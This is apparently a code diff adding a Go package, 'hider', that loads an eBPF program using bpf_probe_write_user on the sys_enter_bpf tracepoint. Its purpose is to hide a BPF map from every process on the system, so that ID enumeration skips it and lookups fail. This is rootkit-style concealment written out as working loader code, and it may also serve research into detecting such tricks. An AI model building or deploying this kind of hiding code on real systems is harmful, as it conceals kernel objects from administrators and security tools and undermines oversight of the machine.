@@ -1,0 +1,84 @@
+package hider
+
+import (
+	"errors"
+	"fmt"
+	"os"
+
+	"github.com/cilium/ebpf"
+	"github.com/cilium/ebpf/link"
+	"golang.org/x/sys/unix"
+)
+
+// Hider is the loaded program and the map it hides.
+type Hider struct {
+	objs   hiderObjects
+	link   link.Link
+	MapID  uint32
+	ProgID uint32
+}
+
+// Load loads the program. A kernel under lockdown (integrity or
+// confidentiality) refuses bpf_probe_write_user: the error says so.
+func Load() (*Hider, error) {
+	h := &Hider{}
+	if err := loadHiderObjects(&h.objs, nil); err != nil {
+		return nil, fmt.Errorf("loading a program that calls bpf_probe_write_user (refused under lockdown): %w", err)
+	}
+	mi, err := h.objs.HiderIds.Info()
+	if err != nil {
+		h.Close()
+		return nil, err
+	}
+	mid, _ := mi.ID()
+	pi, err := h.objs.Hide.Info()
+	if err != nil {
+		h.Close()
+		return nil, err
+	}
+	pid, _ := pi.ID()
+	h.MapID, h.ProgID = uint32(mid), uint32(pid)
+	return h, nil
+}
+
+// Map is the map the program hides.
+func (h *Hider) Map() *ebpf.Map { return h.objs.HiderIds }
+
+// Hide starts hiding the map: from now on GET_NEXT_ID walks past it and
+// GET_FD_BY_ID fails for it, for every process.
+func (h *Hider) Hide() error {
+	before := uint32(0) // the largest map id below ours
+	for id := uint32(0); ; {
+		next, err := ebpf.MapGetNextID(ebpf.MapID(id))
+		if errors.Is(err, unix.ENOENT) || errors.Is(err, os.ErrNotExist) {
+			break
+		}
+		if err != nil {
+			return err
+		}
+		if uint32(next) >= h.MapID {
+			break
+		}
+		before, id = uint32(next), uint32(next)
+	}
+	if err := h.objs.HiderIds.Update(uint32(0), uint64(h.MapID), 0); err != nil {
+		return err
+	}
+	if err := h.objs.HiderIds.Update(uint32(1), uint64(before), 0); err != nil {
+		return err
+	}
+	l, err := link.Tracepoint("syscalls", "sys_enter_bpf", h.objs.Hide, nil)
+	if err != nil {
+		return fmt.Errorf("attaching to syscalls:sys_enter_bpf: %w", err)
+	}
+	h.link = l
+	return nil
+}
+
+// Close stops hiding and unloads.
+func (h *Hider) Close() {
+	if h.link != nil {
+		h.link.Close()
+	}
+	h.objs.Close()
+}
